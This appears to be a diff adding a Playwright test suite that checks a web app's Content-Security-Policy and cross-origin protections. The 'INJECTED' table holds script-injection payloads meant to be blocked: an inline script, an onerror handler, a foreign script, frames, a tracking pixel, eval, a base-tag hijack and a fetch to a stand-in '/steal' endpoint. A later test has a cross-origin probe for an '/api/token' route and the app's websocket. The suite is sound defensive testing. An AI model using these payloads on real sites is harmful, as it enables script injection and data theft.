@@ -1,0 +1,171 @@
+"""The Content-Security-Policy: every page works under it, and what is not the app's own does not run."""
+
+import http.server
+import threading
+
+import pytest
+
+PAGES = {
+    "/?catalog=shapes": "12 items",
+    "/?catalog=shapes&q=red+disc": "Red disc",
+    "/item?catalog=shapes&id=red-disc": "Red disc",
+    "/catalogs": "shapes",
+    "/boards": "Boards",
+    "/bench?catalog=shapes": "Compare",
+    "/compare?i=shapes/red-disc&i=shapes/blue-bar": "Blue bar",
+    "/board?id=none": "board",
+    "/sheet?id=none": "board",
+    "/nothing": "There is no such page",
+    "/api/v1/docs": "The API",
+}
+WATCH = """
+window.refused = [];
+document.addEventListener('securitypolicyviolation', (event) =>
+  refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`));
+"""
+
+
+@pytest.fixture
+def watched(browser, app):
+    """Opens a page that notes every violation of its policy in `window.refused`."""
+    contexts = []
+
+    def watched(path):
+        context = browser.new_context(base_url=app)
+        contexts.append(context)
+        context.set_default_timeout(30_000)
+        page = context.new_page()
+        page.add_init_script(WATCH)
+        page.goto(path)
+        return page
+
+    yield watched
+    for context in contexts:
+        context.close()
+
+
+@pytest.mark.parametrize(("path", "text"), PAGES.items())
+def test_no_page_of_the_app_breaks_its_policy(watched, path, text):
+    page = watched(path)
+    page.get_by_text(text).locator("visible=true").first.wait_for()
+    page.wait_for_timeout(1000)  # what comes late comes
+    assert page.evaluate("refused") == []
+
+
+@pytest.fixture(scope="module")
+def elsewhere():
+    """The address of another site, which answers everything with a script."""
+
+    class Answer(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/javascript")
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+            self.wfile.write(b"window.hacked = 'foreign'")
+
+        def log_message(self, *_):
+            """Nothing to say."""
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+INJECTED = {
+    "an inline script": (
+        "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
+        "script-src-elem inline",
+    ),
+    "an event handler": (
+        "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=window.hacked=1>')",
+        "script-src",
+    ),
+    "a script of another site": (
+        "const s = document.createElement('script'); s.src = '{elsewhere}/x.js'; document.body.append(s)",
+        "script-src-elem {elsewhere}",
+    ),
+    "a frame": (
+        "document.body.insertAdjacentHTML('beforeend', '<iframe src={elsewhere}></iframe>')",
+        "frame-src {elsewhere}",
+    ),
+    "a frame with a script in it": (
+        "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hacked=1</' + 'script>';"
+        "document.body.append(f)",
+        None,  # told to the frame's own document
+    ),
+    "a picture that tells another site who looks": (
+        "document.body.insertAdjacentHTML('beforeend', '<img src={elsewhere}/pixel.gif>')",
+        "img-src {elsewhere}",
+    ),
+    "a request to another site": ("fetch('{elsewhere}/steal').catch(() => 0)", "connect-src {elsewhere}"),
+    "code made of text": ("setTimeout(() => { try { eval('window.hacked = 1') } catch {} })", "script-src eval"),
+    "another base for addresses": (
+        "document.head.insertAdjacentHTML('beforeend', '<base href={elsewhere}/>')",
+        "base-uri {elsewhere}",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", INJECTED)
+def test_what_is_not_the_apps_own_is_blocked(watched, elsewhere, name):
+    page = watched("/nothing")
+    script, refused = INJECTED[name]
+    page.evaluate(f"() => {{ {script.replace('{elsewhere}', elsewhere)} }}")
+    if refused is not None:
+        # Not wait_for_function: it makes code of text in the page, which the policy forbids.
+        for _ in range(100):
+            if found := page.evaluate("refused"):
+                break
+            page.wait_for_timeout(100)
+        assert any(one.startswith(refused.replace("{elsewhere}", elsewhere)) for one in found)
+    page.wait_for_timeout(500)
+    assert page.evaluate("window.hacked") is None
+
+
+def test_another_site_cannot_put_the_app_into_a_frame(browser, app, elsewhere):
+    context = browser.new_context()
+    page = context.new_page()
+    page.route(f"{elsewhere}/frame", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src={app}>"))
+    page.goto(f"{elsewhere}/frame")
+    page.wait_for_function("window.frames.length == 1")
+    page.wait_for_timeout(1000)
+    assert page.frames[1].url == "chrome-error://chromewebdata/"
+    context.close()
+
+
+def test_a_page_of_another_site_reaches_neither_the_routes_nor_the_live_connection(browser, app, elsewhere):
+    """The other site is another port of this machine: browsers call that another origin of the same site."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.route(f"{elsewhere}/page", lambda route: route.fulfill(content_type="text/html", body="<p>hello"))
+    page.goto(f"{elsewhere}/page")
+    ask = """async (address) => {
+      const tried = { read: 'refused', sent: 'refused', live: 'refused' };
+      try { tried.read = await (await fetch(`${address}/api/token`)).text() } catch {}
+      const post = { method: 'POST', mode: 'no-cors', body: '{}' };
+      try { tried.sent = (await fetch(`${address}/api/boards`, post)).type } catch {}
+      await new Promise((done) => {
+        const socket = new WebSocket(`${address.replace('http', 'ws')}/_stcore/stream`, ['streamlit']);
+        socket.onopen = () => { tried.live = 'open'; done() };
+        socket.onerror = done;
+      });
+      return tried;
+    }"""
+    tried = page.evaluate(ask, app)
+    assert tried["read"] == tried["live"] == "refused"
+    assert tried["sent"] in ("opaque", "refused")  # the browser sends it; what comes of it is in tests/attacks
+    context.close()
+    own = browser.new_context()
+    page = own.new_page()
+    page.goto(f"{app}/nothing")
+    opened = """(address) => new Promise((done) => {
+      const socket = new WebSocket(`${address.replace('http', 'ws')}/_stcore/stream`, ['streamlit']);
+      socket.onopen = () => done('open'); socket.onerror = () => done('refused');
+    })"""
+    assert page.evaluate(opened, app) == "open"
+    own.close()
